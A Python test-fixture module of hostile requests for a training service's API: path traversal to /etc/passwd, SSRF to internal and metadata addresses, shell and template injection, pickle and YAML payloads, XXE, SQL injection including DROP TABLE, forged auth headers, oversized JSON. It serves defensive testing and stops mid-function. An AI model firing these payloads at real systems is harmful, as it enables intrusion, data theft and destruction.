"""
What hostile clients send, input by input: of which attack it is, what is asked with it and where, and how it may be
answered. `tests/service/test_hostile.py` sends all of it to a server.

An input that fits many places is sent to several of them, in turn, so that each place gets many.
"""

from __future__ import annotations

import codecs
import gzip
import json
import zlib
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from itertools import cycle, islice
from typing import Any
from urllib.parse import quote

from service.openapi import document
from tests.service.served import SPEC
from tests.service.test_egress import DISGUISED, PRIVATE
from tests.service.test_filters import INJECTIONS

ATTACKS = {
    1: "a pickle for weights",
    2: "weights that ask for memory",
    3: "code, or the name of code, from users",
    4: "ONNX with files of elsewhere",
    5: "paths that lead out",
    6: "archives",
    7: "images that ask for memory",
    8: "requests to inner addresses (SSRF)",
    9: "forged letters",
    10: "ports of Ray that anybody may use",
    11: "pickles by way of Ray",
    12: "ids of other tenants",
    13: "weak keys, and ways around them",
    14: "secrets in logs, answers and traces",
    15: "another site's page, another name of the server",
    16: "JSON that is giant, deep or odd",
    17: "numbers that are none, on their way out",
    18: "parts and ranges without number",
    19: "connections that are held",
    20: "jobs and requests without number",
    21: "SQL in filters, orders and names",
    22: "abuse of Idempotency-Key and other headers",
    23: "requests that can be read in two ways",
    24: "scripts and steering characters in names",
    25: "formulas in names",
    26: "forged results",
    27: "other people's packages",
    28: "changes that nobody notes",
}

REFUSED = frozenset({400, 404, 405, 413, 415, 422})
MALFORMED, NOWHERE, INVALID = frozenset({400}), frozenset({404}), frozenset({422})
UNKNOWN, FOREIGN, UNTYPED = frozenset({401}), frozenset({403}), frozenset({415})
HARMLESS = frozenset({200})

JSON = ("Content-Type", "application/json")
KEY = ("Authorization", "Bearer <secret>")
HOST = ("Host", "localhost")

Headers = tuple[tuple[str, str | bytes], ...]


@dataclass(frozen=True, slots=True)
class Attempt:
    """
    One request. `<job_id>` and the like in `target` stand for ids of the house, and `<secret>` for a key of it; `input`
    is what is hostile about it, as a person would point at it.
    """

    attack: int
    input: str
    operation: str
    method: str
    target: str
    expected: frozenset[int]
    headers: Headers = ()
    body: bytes | None = None
    pointer: str = ""
    """Where in the body the input stands, if it is the only fault of it."""

    def raw(self, known: Mapping[str, str]) -> bytes:
        """The bytes of the request. A header that is given takes the place of the usual one of its name."""
        given = {name.lower() for name, _ in self.headers}
        headers = [*(usual for usual in (HOST, KEY) if usual[0].lower() not in given), *self.headers]
        if self.body is not None and "content-length" not in given:
            headers.append(("Content-Length", str(len(self.body))))
        target = self.target
        for name, value in known.items():
            target = target.replace(f"<{name}>", value)
        lines = [f"{self.method} {target} HTTP/1.1".encode()]
        for name, value in headers:
            text = value if isinstance(value, bytes) else value.replace("<secret>", known["secret"]).encode()
            lines.append(name.encode() + b": " + text)
        return b"\r\n".join([*lines, b"", self.body or b""])


_DOCUMENT = document()
OPERATIONS: dict[str, tuple[str, str, dict[str, Any]]] = {
    operation["operationId"]: (method.upper(), path, operation)
    for path, operations in _DOCUMENT["paths"].items()
    for method, operation in operations.items()
}


def _target(path: str, **given: str) -> str:
    """A path of the document with what is given, and the house's ids for the rest."""
    for name in [part.partition("}")[0] for part in path.split("{")[1:]]:
        usual = {"name": "weights", "kind": "teachers"}.get(name, f"<{name}>")
        path = path.replace(f"{{{name}}}", given.get(name, usual))
    return path


def _typed(operation: str) -> str:
    """The media type of its body."""
    [found] = OPERATIONS[operation][2]["requestBody"]["content"]
    return str(found)


def _sent(
    attack: int, word: str, name: str, body: bytes, expected: frozenset[int], *headers: tuple[str, str], at: str = ""
) -> Attempt:
    method, path, _ = OPERATIONS[name]
    typed = headers or ((JSON[0], _typed(name)),)
    return Attempt(attack, word, name, method, _target(path), expected, typed, body, at)


def _asked(attack: int, word: str, name: str, expected: frozenset[int], *headers: tuple[str, str | bytes]) -> Attempt:
    """An operation with its usual body and these headers."""
    method, path, operation = OPERATIONS[name]
    contents = operation.get("requestBody", {}).get("content", {})
    if not contents:
        return Attempt(attack, word, name, method, _target(path), expected, headers)
    [(kind, content)] = contents.items()
    body = json.dumps(SPEC if name == "jobs.create" else content.get("example", {})).encode()
    return Attempt(attack, word, name, method, _target(path), expected, ((JSON[0], kind), *headers), body)


# 5: paths that lead out

_UP = [
    *("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "%2E%2E%2F", "..%252f", "%252e%252e%252f", "%25252e%25252e%25252f"),
    *("..\\", "..%5c", "%2e%2e%5c", "..%255c", "..%c0%af", "..%c1%9c", "%c0%ae%c0%ae/", "%e0%80%ae%e0%80%ae/"),
    *("..%ef%bc%8f", "..%e2%88%95", "..%e2%81%84", "%ef%bc%8e%ef%bc%8e/", "..;/", "..;x=1/", "....//", "..././"),
    *(".%00./", "..%00/", "%uff0e%uff0e/", "..%u2215", "%%32%65%%32%65/", "..%09/", "..%0d%0a/", "./.././", "..//"),
]
PLANTED = (
    *("way-out", "way-out/canary.safetensors", "loop", "loop/w", "pipe", "pets/../../secret/canary.safetensors"),
    "pets/../../secret",
)
"""What lies in the data root of the test to lead astray."""
_WORDS = [
    *("/etc/passwd", "//etc/passwd", "///etc/passwd", "/./etc/passwd", "/etc/./passwd", "%2fetc%2fpasswd"),
    *("/proc/self/environ", "/proc/self/fd/0", "/proc/1/root/etc/passwd", "/dev/zero", "/dev/stdin", "/dev/full"),
    *("file:///etc/passwd", "file://localhost/etc/passwd", "file:/etc/passwd", "FILE:///etc/passwd", "file:..%2f.."),
    *("C:\\Windows\\win.ini", "C:/Windows/win.ini", "C:win.ini", "\\etc\\passwd", "\\\\.\\PhysicalDrive0"),
    *("\\\\evil.example\\share\\w", "//evil.example/share/w", "\\\\?\\C:\\w", "\\\\?\\UNC\\evil.example\\share\\w"),
    *("CON", "NUL", "AUX", "COM1", "LPT1.txt", "nul.safetensors", "w.safetensors::$DATA", "w.safetensors:x", "w."),
    *("~", "~/w", "~root/.ssh/id_rsa", "$HOME", "${HOME}/w", "%HOME%", "%SYSTEMROOT%", "$(id)", "`id`", "|id", ";id"),
    *("-rf", "--help", "*", "[a-z]", "{a,b}", "**/*", "w.safetensors ", " w.safetensors", "w.safetensors\t"),
    *("http://127.0.0.1/w", "http://169.254.169.254/latest/meta-data/", "https://evil.example/w", "ftp://evil/w"),
    *("s3://bucket/w", "gs://bucket/w", "hdfs://host/w", "jar:file:///w!/x", "php://filter/resource=w", "data:,w"),
    *("zip://w", "hf://user/w", "git+ssh://evil.example/w", "upload:", "upload:..", "upload:../../etc/passwd"),
    *("upload:upl_00000000000000000000000000", "upload:upl_..%2f..%2f", "upload:upl_0000000000000000000000000\n"),
    *("UPLOAD:upl_00000000000000000000000000", "upload:/etc/passwd", "upload:\\..", "artifact:art_0", "teacher:tch_0"),
    *PLANTED,
    *(".", "..", "...", "./", ". ", ".. ", "..\t", "%", "%2", "%2e", "%2e%2e", "%zz", "%00"),
    *("w%00.safetensors", "\0", "..\0/", "/etc/passwd\0.safetensors", "w\n", "\r\n", "\x1b[2J", "\x7f", "#", "w#../.."),
    *("?", "w?../../etc/passwd", "%23", "w%23", "%3f", "w%3f..%2f..", "w;v=1", "w,x", "w&x=1", "w+x", "w\\"),
    *("\u2024\u2024/w", "\u2025/w", "\u2026/w", "\uff0e\uff0e\uff0fw", "\u3002\u3002/w", "..\u2215w", "..\u2044w"),
    *("\u202e../w", "\u200b../w", "\ufeff../w", "\u00ad../w", "..\u00af..", "\u0130", "w\u0301", "\ufdfa" * 20, "☃"),
    *("a" * 255, "a" * 300, "a" * 4000, "a/" * 400, "../" * 300, "/" * 500, "./" * 500, "%2e%2e%2f" * 90),
]
PATHS = tuple(
    dict.fromkeys(
        [up * count + goal for up in _UP for count, goal in ((1, "canary"), (3, "etc/passwd"), (8, "etc/passwd"))]
        + _WORDS
    )
)


def _in_target(word: str) -> str:
    """As it is where it may stand in a request, else with `%`."""
    return quote(word, safe="".join(map(chr, range(0x21, 0x7F))))


def _paths() -> Iterator[Attempt]:
    """
    Each for the name of an artifact, in turn for an id or a name of an operation that reads and of one that changes
    something, and for the place in a list.
    """
    reading, changing = [], []
    for name, (method, _, operation) in OPERATIONS.items():
        places = [found["name"] for found in operation.get("parameters", ()) if found["in"] == "path"]
        (reading if method == "GET" else changing).extend((name, place) for place in places)
    first, second, lists = (
        cycle(reading),
        cycle(changing),
        cycle(("jobs.list", "keys.list", "uploads.list", "webhooks.deliveries", "jobs.trials")),
    )
    for word in PATHS:
        written = _in_target(word)
        for name, place in [("jobs.artifact_content", "name"), next(first), next(second)]:
            method, path, operation = OPERATIONS[name]
            refused = REFUSED if "requestBody" in operation or method != "GET" else frozenset({404, 405, 422})
            yield Attempt(5, word, name, method, _target(path, **{place: written}), refused)
        name = next(lists)
        target = f"{_target(OPERATIONS[name][1])}?page_token={quote(word, safe='')}"
        yield Attempt(5, word, name, "GET", target, INVALID)


_LOCATIONS = (
    *[("jobs.clone", "/spec/dataset/options/path")] * 12,
    ("datasets.create", "/dataset/options/path"),
    ("datasets.create", "/dataset/options/train/annotations"),
    ("teachers.create", "/teacher/weights"),
    ("jobs.create", "/teacher/weights"),
)
"""Where a body names a file, those more often that cost less to look at: a teacher is built before its weights."""


def _locations() -> Iterator[Attempt]:
    """What is planted, and of the others each sixth, because a check takes its time; the test tries all by itself."""
    places = cycle(_LOCATIONS)
    for word in (*PLANTED, *PATHS[::6]):
        name, place = next(places)
        body = json.dumps(_placed(name, place, word)).encode()
        # Half of what stands for nothing in JSON is refused before anybody knows that it was to be a path.
        yield _sent(5, word, name, body, MALFORMED if "\0" in word else INVALID, at=place.partition("/options")[0])


def _placed(name: str, place: str, word: Any) -> dict[str, Any]:
    """A body that is good but for one place."""
    pictures = {"name": "image_folder", "options": {"path": "pets", "size": 8}}
    boxes = {"name": "coco", "options": {"path": "pets", "train": {"images": "cat", "annotations": "x.json"}}}
    bodies: dict[str, Any] = {
        "jobs.create": {**SPEC},
        "jobs.clone": {},
        "teachers.create": {"name": "t", "teacher": SPEC["teacher"], "dataset": SPEC["dataset"]},
        "datasets.create": {"name": "d", "dataset": boxes if "annotations" in place else pictures},
    }
    if place == "/spec/dataset/options/path":
        bodies[name] = {"spec": {"dataset": pictures}}
    found: dict[str, Any] = json.loads(json.dumps(bodies[name]))
    *parents, last = place.strip("/").split("/")
    inner = found
    for parent in parents:
        inner = inner.setdefault(parent, {})
    inner[last] = word
    return found


# 3: code, or the name of code

_NAMES = [
    *("os.system", "os:system", "builtins.eval", "builtins:exec", "subprocess.Popen", "torchvision.models.resnet18"),
    *("torchvision.models:resnet18", "search.teachers.small:SmallResNet", "search.catalog", "service.settings"),
    *("__import__('os').system('id')", "lambda: 0", "print(1)", "__class__", "__init__", "__subclasshook__", "mro"),
    *("{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "%(secret)s", "{0.__class__}", "#{7*7}", "<%= 7*7 %>"),
    *("!!python/object/apply:os.system", "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA==", "\x80\x04cos\nsystem\n."),
    *("hf://evil/model", "timm/../../evil", "git+https://evil.example/x", "file:///tmp/x.py", "x.py", "evil.pkl"),
    *("hub:evil/repo:main", "ultralytics/yolov5:master", "small_resnet;import os", "small_resnet\n", "small_resnet "),
    *("SMALL_RESNET", "ѕmall_resnet", "small_resnet\u200b", "small_resnet'--", "digits:train", "teachers.small_resnet"),
]
_OPTIONS: list[tuple[str, Any]] = [
    *((name, {"x": "os.system"}) for name in ("__class__", "__reduce__", "__init__", "__dict__", "__globals__")),
    *((name, "os.system") for name in ("_target_", "$ref", "py/object", "py/reduce", "auto_map", "module", "code")),
    *(
        (name, True)
        for name in ("trust_remote_code", "allow_pickle", "weights_only", "unsafe", "download", "pretrained")
    ),
    *((name, "id") for name in ("hook", "on_load", "callback", "entry_point", "class_path", "init_args", "fn", "cmd")),
    *((name, {"polluted": 1}) for name in ("__proto__", "constructor", "prototype", "model_config", "model_fields")),
    *(("width", word) for word in ({"__class__": "int"}, ["os.system"], "8; import os", "0x8", "1e1", None, True)),
    *(("width", word) for word in (-1, 0, 10**9, 2**63, 2**64, 1.5, {"$gt": 0}, [], "\u0668", "8_0", " 8")),
]


def _code() -> Iterator[Attempt]:
    places = ("/teacher/name", "/dataset/name", "/distill/name", "/search/strategy/name")
    for word, place in zip(_NAMES, cycle(places), strict=False):
        body = json.dumps(_placed("jobs.create", place, word)).encode()
        yield _sent(3, word, "jobs.create", body, INVALID, at=place)
    for name, value in _OPTIONS:
        spec = _placed("jobs.create", "/teacher/options", {**SPEC["teacher"]["options"], name: value})
        body = json.dumps(spec).encode()
        yield _sent(3, f"{name}: {value!r}", "jobs.create", body, INVALID, at="/teacher/options")


# 16: JSON

_WRAP = b'{"labels": {"a": %s}, "name": "x"}'
_BROKEN: list[tuple[str, bytes]] = [
    *((f"{word} for a value", _WRAP % word.encode()) for word in ("NaN", "Infinity", "-Infinity", "1e400", "-1e400")),
    *(
        (f"{word} for a value", _WRAP % word.encode())
        for word in ("01", "+1", ".5", "1.", "0x10", "1_0", "True", "None")
    ),
    *((f"{word} for a value", _WRAP % word.encode()) for word in ("undefined", "'x'", "`x`", "x", "//x", "/*x*/1")),
    ("5,000 digits", _WRAP % (b"9" * 5000)),
    ("5,000 digits behind the point", _WRAP % (b"0." + b"3" * 5000)),
    ("an exponent of 5,000 digits", _WRAP % (b"1e" + b"0" * 5000)),
    ("half a pair", rb'{"name": "\ud800"}'),
    ("the other half first", rb'{"name": "\udc00\ud800"}'),
    ("half a pair for a name", rb'{"\udfff": 1}'),
    ("NUL, escaped", rb'{"name": "a\u0000b"}'),
    ("NUL for a name", rb'{"\u0000": 1}'),
    ("NUL, bare", b'{"name": "a\0b"}'),
    ("a line break in a text", b'{"name": "a\nb"}'),
    ("an escape that is none", rb'{"name": "\x41"}'),
    ("a byte that is no character", b'{"name": "\xff"}'),
    ("a character in too many bytes", b'{"name": "\xc0\xaf"}'),
    ("half a pair in three bytes", b'{"name": "\xed\xa0\x80"}'),
    ("a mark of byte order", codecs.BOM_UTF8 + b'{"name": "x"}'),
    ("UTF-16", '{"name": "x"}'.encode("utf-16")),
    ("UTF-16 without a mark", '{"name": "x"}'.encode("utf-16-le")),
    ("UTF-32", '{"name": "x"}'.encode("utf-32")),
    ("gzip that is not said to be", gzip.compress(b'{"name": "x"}', mtime=0)),
    ("deflate that is not said to be", zlib.compress(b'{"name": "x"}')),
    ("33 levels", b"[" * 33 + b"]" * 33),
    ("100,000 levels", b"[" * 100_000),
    ("20,000 objects in one another", b'{"a":' * 20_000),
    ("a name twice", b'{"name": "x", "name": "y"}'),
    ("a name twice, once in disguise", rb'{"name": "x", "\u006eame": "y"}'),
    ("a name twice, deep inside", b'{"a": [{"b": {"c": 1, "c": 2}}]}'),
    ("two documents", b"{}{}"),
    ("lines of documents", b'{"name": "x"}\n{"name": "y"}'),
    ("something behind the end", b'{"name": "x"} x'),
    ("no end", b'{"name": "x"'),
    ("a comma too many", b'{"name": "x",}'),
    ("no quotes", b"{name: x}"),
    ("a comment", b'{"name": "x" /* y */}'),
    ("YAML", b"name: x\nteacher: !!python/object/apply:os.system [id]"),
    ("XML with an entity", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ("a form", b"name=x&scope=admin"),
    ("JSONP", b'callback({"name": "x"})'),
    ("a prefix against thieves", b')]}\',\n{"name": "x"}'),
    ("quotes without end", b'"' + b"\\" * 100_000),
    ("nothing", b""),
    ("blanks", b" \n\t "),
]
_WRONG: list[tuple[str, bytes]] = [
    *((f"{word} for a document", word.encode()) for word in ("[]", "7", '"x"', "true", "null", "[[]]", "-0", "1e308")),
    ("40,000 names", b"{" + b",".join(b'"%d":1' % number for number in range(22_000)) + b"}"),
    ("a name of 200,000 letters", b'{"' + b"a" * 200_000 + b'": 1}'),
    ("a text of 200,000 letters", b'{"name": "' + b"a" * 200_000 + b'"}'),
    ("a list of 100,000", b'{"name": [' + b"0," * 99_999 + b"0]}"),
    ("a number of 400 digits", b'{"name": ' + b"9" * 400 + b"}"),
    ("2^63", b'{"name": 9223372036854775808}'),
    ("1e-400", b'{"name": 1e-400}'),
    ("names of no field", b'{"$where": "1", "__proto__": {"x": 1}, "a.b": 1, "": 0}'),
]
_LARGE: list[tuple[str, bytes]] = [
    ("300 KB of blanks", b" " * 300_000),
    ("300 KB of text", b'{"name": "' + b"a" * 300_000 + b'"}'),
    ("one byte too many", b'{"name": "' + b"a" * (256 * 1024 - 11) + b'"}'),
]
_KINDS = [
    *("", "text/plain", "text/json", "application/x-json", "application/jsonp", "application/json5", "text/html"),
    *("application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "application/yaml"),
    *("application/json; charset=utf-16", "application/json; charset=utf-7", "application/json; charset=latin-1"),
    *("application/json; charset=\x80", "image/png", "application/x-python-serialize", "application/zip", "*/*"),
    *("application/octet-stream", "application/vnd.api+json", "application/json, text/plain", "json", "application/"),
]
TAKING = tuple(
    name
    for name, (_, _, operation) in OPERATIONS.items()
    if any("json" in kind for kind in operation.get("requestBody", {}).get("content", {}))
)
"""Operations that take JSON."""


def _json() -> Iterator[Attempt]:
    """Each to two operations in turn; what is large, to one."""
    taking = cycle(TAKING)
    for entries, times, expected in (
        (_BROKEN, 2, MALFORMED),
        (_WRONG, 2, INVALID),
        (_LARGE, 1, frozenset({413})),
    ):
        for word, body in entries:
            for name in islice(taking, times if len(body) < 50_000 else 1):
                # What may be left out may be empty.
                yield _sent(16, word, "jobs.create" if not body else name, body, expected)
    for kind in _KINDS:
        for name in islice(taking, 2):
            yield _sent(16, f"a body of kind {kind!r}", name, b'{"name": "x"}', UNTYPED, ("Content-Type", kind))
    packed = gzip.compress(b"{" + b" " * 10_000_000 + b"}", mtime=0)
    for number, coding in enumerate(("gzip", "deflate", "br", "zstd", "gzip, gzip", "identity, gzip", "x-evil")):
        name = TAKING[number % len(TAKING)]
        headers = ((JSON[0], _typed(name)), ("Content-Encoding", coding))
        yield _sent(
            16, f"10 MB in {len(packed)} bytes, said to be {coding}", name, packed, MALFORMED | UNTYPED, *headers
        )


# 8: addresses that lead inside

_HOSTS = [
    *(f"[{address}]" if ":" in address else address for address in PRIVATE if address),
    *DISGUISED,
    *("hooks.example.org.evil.test", "evilexample.org", "hooks.example.org@evil.test", "evil.test#hooks.example.org"),
    *("evil.test?hooks.example.org", "evil.test/hooks.example.org", "evil.test\\@hooks.example.org", "①②⑦.⓪.⓪.①"),
    *("hooks.example.org%00.evil.test", "hooks.example.org%2eevil.test", "hooks。example。org。evil。test", "metadata"),
    *(
        "169.254.169.254.nip.io",
        "localtest.me",
        "metadata.google.internal",
        "[::ffff:7f00:1]",
        "0177.0.0.1",
        "127。0。0。1",
    ),
]
_ADDRESSES = [
    *(
        "http://hooks.example.org/",
        "ftp://hooks.example.org/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_FLUSHALL",
    ),
    *("dict://127.0.0.1:11211/", "ldap://127.0.0.1/", "javascript:alert(1)", "data:text/html,x", "unix:///run/x.sock"),
    *("https://", "https:///x", "//hooks.example.org/", "hooks.example.org", "https://user:pass@hooks.example.org/"),
    *("https://hooks.example.org:99999/", "https://hooks.example.org/#x", "https://ho oks.example.org/", "https://["),
    *("https://hooks.example.org\r\nX-Injected: 1/", "https://hooks.example.org/\r\n\r\nGET / HTTP/1.1", "x" * 3000),
]


def _addresses() -> Iterator[Attempt]:
    for address in [*(f"https://{host}/" for host in _HOSTS), *_ADDRESSES]:
        body = json.dumps({"url": address, "kinds": ["JOB_FAILED"]}).encode()
        yield _sent(8, address, "webhooks.create", body, INVALID)


# 13: ways around a key

_CREDENTIALS: list[str | bytes] = [
    *("", "Bearer", "Bearer ", "Bearer null", "Bearer undefined", "Bearer true", "Bearer 0", "Bearer []", "Bearer *"),
    *("Bearer sth_", "Bearer sth_' OR '1'='1", "Bearer sth_%", "Bearer sth_" + "a" * 9000, "Bearer ../../key"),
    *("Basic YWRtaW46YWRtaW4=", "Basic Og==", "Digest username=admin", "Negotiate TlRMTVNTUAAB", "AWS4-HMAC-SHA256 x"),
    *("bearer: <secret>", "Token <secret>", "<secret>", "Bearer <secret>x", "Bearer x<secret>", "Bearer '<secret>'"),
    *("Bearer " + ".".join(["eyJhbGciOiJub25lIn0", "eyJzdWIiOiJhZG1pbiJ9", ""]), "Bearer a.b.c", "Bearer ..", "Key ok"),
    *(b"Bearer \xff\xfe", "Bearer \u0430dmin".encode(), b"Bearer \xe2\x80\xae"),
]
_TRUSTED: list[tuple[str, str]] = [
    *(("X-Forwarded-For", word) for word in ("127.0.0.1", "::1", "127.0.0.1, 8.8.8.8", "unknown", "' OR 1=1")),
    *((name, "127.0.0.1") for name in ("X-Real-IP", "X-Client-IP", "True-Client-IP", "CF-Connecting-IP", "Client-IP")),
    *(
        (name, "admin")
        for name in ("X-Forwarded-User", "X-Remote-User", "Remote-User", "X-Auth-User", "X-User", "X-Tenant")
    ),
    *((name, "/healthz") for name in ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Path", "X-Override-URL")),
    *(
        (
            ("X-Forwarded-Proto", "https"),
            ("X-Forwarded-Host", "localhost"),
            ("Forwarded", "for=127.0.0.1;host=localhost"),
        )
    ),
    *(
        (
            ("Cookie", "key=<secret>; session=admin"),
            ("X-Api-Key", "<secret>"),
            ("Api-Key", "<secret>"),
            ("X-Key", "<secret>"),
        )
    ),
    *((("Proxy-Authorization", "Bearer <secret>"), ("X-Authorization", "Bearer <secret>"), ("X-Scope", "admin"))),
]


def _keyless() -> Iterator[Attempt]:
    guarded = cycle(name for name, (_, _, operation) in OPERATIONS.items() if "security" in operation)
    for credential in _CREDENTIALS:
        shown = credential if isinstance(credential, str) else credential.decode("latin-1")
        yield _asked(13, shown, next(guarded), UNKNOWN, ("Authorization", credential))
    for name, value in _TRUSTED:
        yield _asked(13, f"{name}: {value}", next(guarded), UNKNOWN, ("Authorization", "Bearer nobody"), (name, value))
    for word in ("api_key=<secret>", "access_token=<secret>", "token=<secret>", "key=<secret>"):
        headers = (("Authorization", "Bearer nobody"),)
        yield Attempt(13, word, "jobs.list", "GET", f"/v1/jobs?{word}", UNKNOWN, headers)


# 15: other sites, other names

_NAMES_OF_US = [
    *("evil.example", "localhost.evil.example", "evil.example:80", "localhost@evil.example", "127.0.0.1.nip.io", ""),
    *("169.254.169.254", "0.0.0.0", "[::]", "127.1", "2130706433", "localhost.", "xn--lcalhost-0ya", "*", "null"),  # noqa: S104
    *("localhost:80@evil.example", "localhost#evil.example", "localhost, evil.example", "LOCALHOST.evil", "/", ".."),
]
_SITES = [
    *("https://evil.example", "http://localhost.evil.example", "null", "file://", "http://localhost:1", "http://["),
    *("http://127.0.0.1", "https://localhost:443x", "chrome-extension://abc", "http://localhost@evil.example", "*"),
    *("http://localhost/", "//localhost", "localhost", "http://localhost, http://evil.example", "HTTP://EVIL", "data:"),
]


def _elsewhere() -> Iterator[Attempt]:
    """Every name and every site once in turn, so that every operation gets some; and of each another site's page."""
    names, sites = cycle(_NAMES_OF_US), cycle(_SITES)
    for name in OPERATIONS:
        host, site = next(names), next(sites)
        yield _asked(15, f"Host: {host}", name, MALFORMED, ("Host", host))
        yield _asked(15, f"Origin: {site}", name, FOREIGN, ("Origin", site))
        yield _asked(15, "Sec-Fetch-Site: cross-site", name, FOREIGN, ("Sec-Fetch-Site", "cross-site"))


# 18: ranges

_RANGES = [
    "bytes=" + ",".join(f"{start}-{start}" for start in range(2500)),
    "bytes=" + ",".join(["0-"] * 4000),
    "bytes=" + ",".join(["0-18"] * 3000),
    *("bytes=-1", "bytes=--1", "bytes=-0", "bytes=9-1", "bytes=-99999999999999999999", "bytes=5-99999999999999999999"),
    *(
        "bytes=99999999999999999999-",
        "bytes=0-0,-1",
        "bytes=0-5,2-9,4-4",
        "bytes=",
        "bytes=a-b",
        "pages=1-2",
        "bytes 0-1",
    ),
    *("bytes=0-0\t,\t1-1", "bytes=0x0-0x5", "bytes=1e1-", "bytes=,,,,", "bytes=0-1;x", "Bytes=0-1", "bytes=٠-٩"),
]


def _ranges() -> Iterator[Attempt]:
    for word in _RANGES:
        yield _asked(18, word, "jobs.artifact_content", HARMLESS, ("Range", word.encode()))
        yield _asked(18, word, "server", HARMLESS, ("Range", word.encode()), ("If-Range", '"x"'))
    many = "bytes=" + ",".join(f"{start}-{start}" for start in range(10_000))
    yield _asked(18, many, "jobs.artifact_content", MALFORMED, ("Range", many))


# 20: parameters beyond measure

_NUMBERS = [
    *(
        "-1",
        "0.5",
        "1e3",
        "1e400",
        "NaN",
        "Infinity",
        "-Infinity",
        "",
        "null",
        "true",
        "0x10",
        "1 0",
        "1;2",
        "[1]",
        "{}",
    ),
    *("9" * 30, "9" * 400, "-" + "9" * 30, "1'--", "1%00", "٣x", "1,000", "$1", "%s", "1/0", "0b1", "--1"),
]


def _numbers() -> Iterator[Attempt]:
    places = cycle(
        (name, found["name"])
        for name, (method, _, operation) in OPERATIONS.items()
        for found in operation.get("parameters", ())
        if method == "GET"
        and found["in"] == "query"
        and found["name"] in ("page_size", "limit", "after", "wait", "rung")
    )
    for word in _NUMBERS:
        for _ in range(4):
            name, parameter = next(places)
            large = word.isdecimal() and parameter in ("page_size", "limit")  # as much as there is, and no more
            half = word == "0.5" and parameter == "wait"
            target = f"{_target(OPERATIONS[name][1])}?{parameter}={quote(word.replace('%00', chr(0)), safe='')}"
            expected = INVALID | HARMLESS if large or half else INVALID
            yield Attempt(20, f"a number {word}", name, "GET", target, expected)


# 21: SQL

_SQL = [
    *INJECTIONS,
    *("'", '"', "''", "`", "\\", "\\'", "'; --", "';--", "') OR ('1'='1", "' OR ''='", "admin'--", "1' AND SLEEP(5)--"),
    *(
        "'; SELECT pg_sleep(5); --",
        "' || (SELECT digest FROM keys) || '",
        "' UNION SELECT * FROM keys --",
        "%' OR '%'='",
    ),
    *("'; DROP TABLE jobs; --", "'; ATTACH DATABASE '/tmp/x' AS x; --", "'; COPY keys TO '/tmp/x'; --", "0; VACUUM"),
    *("${tenant}", ":tenant", "%(tenant)s", "%s", "?", "$1", "{tenant}", "x' COLLATE NOCASE --", "CHAR(39)", "0x27"),
    *("(SELECT 1)", "CASE WHEN 1=1 THEN id END", "id; DROP TABLE jobs", "1=1", "id DESC, (SELECT 1)", "id/**/desc"),
    *("*", "%", "_", "id--", "RANDOM()", "id USING >", "id NULLS FIRST, 1", "-id", "+id", "spec->>'x'"),
]
_TEXTS = (
    ("jobs.list", "order_by"),
    ("jobs.list", "state"),
    ("jobs.list", "page_token"),
    ("jobs.trials", "order_by"),
    ("jobs.trials", "state"),
    ("jobs.trials", "page_token"),
    ("jobs.logs", "trial"),
    ("jobs.logs", "level"),
    ("jobs.pareto", "x"),
    ("jobs.pareto", "y"),
    ("webhooks.deliveries", "state"),
    ("audit", "page_token"),
    ("teachers.list", "page_token"),
    ("datasets.list", "page_token"),
    ("webhooks.list", "page_token"),
)
"""Texts that a query may hold, and that no text of an attack is a right value of."""


def _sql() -> Iterator[Attempt]:
    """Each for two of those in turn, and for the name of a parameter."""
    places = cycle(_TEXTS)
    for word in dict.fromkeys(_SQL):
        for name, parameter in islice(places, 2):
            target = f"{_target(OPERATIONS[name][1])}?{parameter}={quote(word, safe='')}"
            yield Attempt(21, word, name, "GET", target, INVALID)
        unknown = f"/v1/jobs?{quote(word, safe='')}=1"
        yield Attempt(21, word, "jobs.list", "GET", unknown, INVALID)


# 22 and 23: headers

_IDEMPOTENCY: list[tuple[str, bytes]] = [
    ("1 MB", b"k" * 2**20),
    ("129 characters", b"k" * 129),
    *((word, word.encode()) for word in ("two words", "é", "\u202ek", "k\tk", "k\x7f")),
    *((f"byte {byte:#04x}", b"k" + bytes([byte]) + b"k") for byte in (0, 1, 8, 11, 12, 27, 127, 128, 255)),
]
_ETAGS = [
    "*x",
    "7",
    '"',
    '"-1"',
    '"9' + "9" * 40 + '"',
    'W/"1"',
    '"1", "2"',
    '"1\' OR 1=1"',
    '"é"',
    '"1" x',
    "null",
    '"NaN"',
]
_SEEN = ["-1", "x", "1e9", "9" * 40, "1' OR 1=1", "٣", "1.5", "0x1", "NaN", "\u202e1", "null", "1,2"]
_STRANGE_IDS: list[bytes] = [
    *(b"x" * 65, b"x" * 8000, b"a b", b"<script>alert(1)</script>", b"a%0d%0aSet-Cookie: x=1", b"a\tb", b"\xff\xfe"),
    *(
        "a\u2028Set-Cookie: x=1".encode(),
        b"a\r\nSet-Cookie: x=1",
        b"a\nSet-Cookie: x=1",
        b"${jndi:ldap://evil/a}",
        b"../x",
    ),
]
_DOUBLED = (("Authorization", "Bearer <secret>"), ("Host", "localhost"), ("Content-Type", "application/json"))


def _headers() -> Iterator[Attempt]:
    making = cycle(
        name
        for name, (_, _, operation) in OPERATIONS.items()
        if any(found["name"] == "idempotency-key" for found in operation.get("parameters", ()))
    )
    for word, value in _IDEMPOTENCY:
        yield _asked(22, f"Idempotency-Key: {word}", next(making), MALFORMED | INVALID, ("Idempotency-Key", value))
    for pair in ((b"k", b"k"), (b"k", b"l"), (b"", b"k")):
        two = tuple(("Idempotency-Key", value) for value in pair)
        yield _asked(22, f"Idempotency-Key {pair}", next(making), MALFORMED, *two)
    for header in _DOUBLED:
        yield _asked(23, f"{header[0]} twice", "keys.create", MALFORMED, header, header)
    for tag in _ETAGS:
        yield _asked(22, f"If-Match: {tag}", "jobs.update", MALFORMED | INVALID | {412}, ("If-Match", tag))
    for seen in _SEEN:
        headers = (("Last-Event-Id", seen), ("Accept", "text/event-stream"))
        yield _asked(22, f"Last-Event-Id: {seen}", "jobs.events", INVALID, *headers)
    for strange in _STRANGE_IDS:
        shown = strange.decode("latin-1")
